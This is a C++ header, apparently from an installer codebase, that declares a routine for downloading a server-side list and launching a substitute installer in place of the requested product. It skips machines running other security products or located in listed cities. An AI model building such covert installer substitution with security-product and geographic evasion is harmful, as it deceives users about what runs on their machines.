#pragma once
// The alternative-package redirect: for channels that start with source 1, a signed list
// on the configuration server may name another installer to hand the user instead of
// the product, with rules that exclude machines (another security product present, the
// user's city in the area list).
#include <cstddef>
#include <string>

namespace kbase {

// Where the list lives on the configuration server, and its name in the install_res folder.
inline constexpr char kAltPackageListPath[] = "/aldconfig/qqpcmgr.dat";
inline constexpr wchar_t kAltPackageListFile[] = L"qqpcmgr.dat";
// Both downloads (the list and the package) may take this long.
constexpr int kAltPackageTimeoutSeconds = 1800;
// A list is a few kilobytes; a larger file is not read.
constexpr size_t kAltPackageListMaxBytes = 4 * 1024 * 1024;

// Downloads the list into `install_res_folder` (the working folder's "install_res",
// without a trailing backslash), and when it names a package for `channel_key` ("%d_%d"
// of company id and tryno id) that no rule excludes, downloads that package into the
// working folder, checks its MD5 digest and starts it without waiting. 1 when the
// package was verified and its start was attempted, else 0.
int RunAltPackageRedirect(const std::wstring& install_res_folder, const std::string& channel_key);

}  // namespace kbase
